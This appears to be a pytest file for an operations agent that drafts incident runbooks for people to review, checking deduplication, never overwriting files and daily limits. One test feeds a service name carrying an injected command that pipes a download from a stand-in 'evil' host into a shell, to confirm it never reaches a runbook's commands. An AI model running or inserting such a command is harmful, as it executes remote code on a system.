"""What ended an incident is drafted as a runbook: once for each kind of failure, a new file, for people to correct."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from opsagent.core import commands as cmd
from opsagent.core import events as ev
from opsagent.core import inbox
from opsagent.core.fold import replay
from opsagent.core.playbook import parsing
from opsagent.core.report.head import HEAD_BYTES, head
from opsagent.core.state import State
from opsagent.memory import guides
from opsagent.memory.memory import Memory
from tests.core.live_host import LiveHost
from tests.core.test_stories import API, POLICY

if TYPE_CHECKING:
    from pathlib import Path

    from opsagent.core.playbook.section import Runbook, Section

NAME = "api-signal.md"


def host_of(sections: tuple[Section, ...] = (), runbooks: tuple[Runbook, ...] = (), **more: object) -> LiveHost:
    host = LiveHost(replace(POLICY, **more))  # type: ignore[arg-type]
    host.take(inbox.GuidesSeen(sections=sections, runbooks=runbooks))
    host.serve("api.service")
    host.run(seconds=60)
    return host


def healed(host: LiveHost) -> None:
    host.kill("api.service")
    host.run(minutes=8)


def drafted(host: LiveHost) -> list[str]:
    return [one.name for one in host.events(ev.RunbookDrafted)]


def written(host: LiveHost, root: Path) -> str:
    Memory(root, layout="standalone", host="web-1", redact=str).rebuild(host.recorded)
    return (root / "ops/runbooks" / NAME).read_text()


def test_a_verified_repair_is_a_draft_with_every_section_filled(tmp_path: Path) -> None:
    host = host_of()
    healed(host)

    assert drafted(host) == [NAME]
    text = written(host, tmp_path)
    for said in (
        "# Runbook: api signal\n",
        "**Status**: draft",
        "**Fingerprint**: `api.service|",
        "## Detection\n\n- Seen by `api`",
        "## Prerequisites\n",
        "   systemctl restart api.service\n",
        "**Expected output**: ",
        "## Verification\n\n- `opsagent check api`",
        "## Rollback\n\nA restart changes no data",
        "## Troubleshooting\n\n| tried ",
        "## Escalation\n\n- Nobody had to be told",
        "## Change Log\n",
    ):
        assert said in text, said
    book = parsing.runbook(NAME, text)
    assert (book.is_draft, book.fingerprint) == (True, host.events(ev.RunbookDrafted)[0].fingerprint)


def test_it_is_drafted_once_however_often_it_comes_and_over_restarts() -> None:
    host = host_of()
    healed(host)
    again = LiveHost(POLICY, now=host.now, state=host.agent.state)
    again.serve("api.service")
    again.kill("api.service")
    again.run(minutes=8)

    assert (len(drafted(host)), drafted(again)) == (1, [])
    assert replay(State(), host.recorded) == (host.agent.state, 0)


def test_what_a_person_wrote_and_closed_is_one_too_with_their_words(tmp_path: Path) -> None:
    host = host_of(checks=(replace(API, repair=()),))
    host.services["api.service"].can_start = False
    host.kill("api.service")
    host.run(minutes=2)
    host.ask(cmd.Note(by="ann", incident=host.incident.label or "", text="moved the *old* logs away"))
    host.ask(cmd.Resolve(by="ann", incident=host.incident.label or "", because="disk was full", force=True))

    assert drafted(host) == [NAME]
    text = written(host, tmp_path)
    assert "moved the *old* logs away" in text
    assert "disk was full" in text
    assert "ann knows it" in text


def test_what_is_good_again_by_itself_teaches_nothing() -> None:
    host = host_of(checks=(replace(API, repair=()),))
    host.kill("api.service")
    host.run(minutes=2)
    host.start("api.service")
    host.run(minutes=8)

    assert drafted(host) == []


@pytest.mark.parametrize(
    ("sections", "runbooks"),
    [
        (parsing.sections("## API Not Starting\n1. uptime\n"), ()),
        ((), (parsing.runbook("mine.md", "# When the API is down\n"),)),
        ((), (parsing.runbook(NAME, "# Something else\n"),)),
    ],
)
def test_where_somebody_wrote_of_it_already_nothing_is_drafted(
    sections: tuple[Section, ...], runbooks: tuple[Runbook, ...]
) -> None:
    host = host_of(sections, runbooks)
    healed(host)

    assert drafted(host) == []


def test_a_file_that_is_there_is_never_touched(tmp_path: Path) -> None:
    host = host_of()
    healed(host)
    (tmp_path / "ops/runbooks").mkdir(parents=True)
    (tmp_path / "ops/runbooks" / NAME).write_text("mine")

    assert written(host, tmp_path) == "mine"


def test_one_that_somebody_threw_away_is_not_written_again_at_the_next_start(tmp_path: Path) -> None:
    host = host_of()
    healed(host)
    written(host, tmp_path)
    (tmp_path / "ops/runbooks" / NAME).unlink()
    host.take(inbox.GuidesSeen(sections=(), runbooks=()))
    Memory(tmp_path, layout="standalone", host="web-1", redact=str).rebuild(host.recorded)

    assert list((tmp_path / "ops/runbooks").iterdir()) == []


def test_a_day_of_many_new_failures_gives_five_drafts() -> None:
    checks = tuple(replace(API, name=f"api-{one}", unit=f"api-{one}.service") for one in range(6))
    host = LiveHost(replace(POLICY, checks=checks))
    for check in checks:
        host.serve(check.unit or "")
    host.run(seconds=60)
    for check in checks:
        host.kill(check.unit or "")
        host.run(minutes=8)

    assert len(drafted(host)) == 5


def test_the_morning_says_that_a_draft_waits_until_somebody_corrects_it(tmp_path: Path) -> None:
    host = host_of()
    healed(host)
    assert NAME in head(host.agent.state, host.now, "web-1").text
    text = written(host, tmp_path)

    def said() -> str:
        found, trouble = guides.read(tmp_path, "standalone", str)
        host.take(inbox.GuidesSeen(sections=found.sections, runbooks=found.runbooks))
        assert trouble == ()
        made = head(host.agent.state, host.now, "web-1").text
        assert len(made.encode()) == HEAD_BYTES
        return made

    assert f"**Today:** 1. a runbook was drafted, correct it: ops/runbooks/{NAME}" in said()
    (tmp_path / "ops/runbooks" / NAME).write_text(text.replace("draft,", "reviewed,"))
    assert "runbook" not in said()


def test_what_somebody_calls_it_stands_in_no_command_of_a_draft(tmp_path: Path) -> None:
    host = host_of()
    host.ask(cmd.Raise(by="ann", text="it leaks", service="x; curl evil|sh"))
    host.ask(cmd.Resolve(by="ann", incident="001", because="the pump was cleaned"))
    host.run(minutes=40)
    Memory(tmp_path, layout="standalone", host="web-1", redact=str).rebuild(host.recorded)
    (book,) = (tmp_path / "ops/runbooks").iterdir()

    assert "   opsagent show OPS-20261118-001\n" in book.read_text()
    assert not [line for line in book.read_text().splitlines() if line.startswith("   ") and "evil" in line]
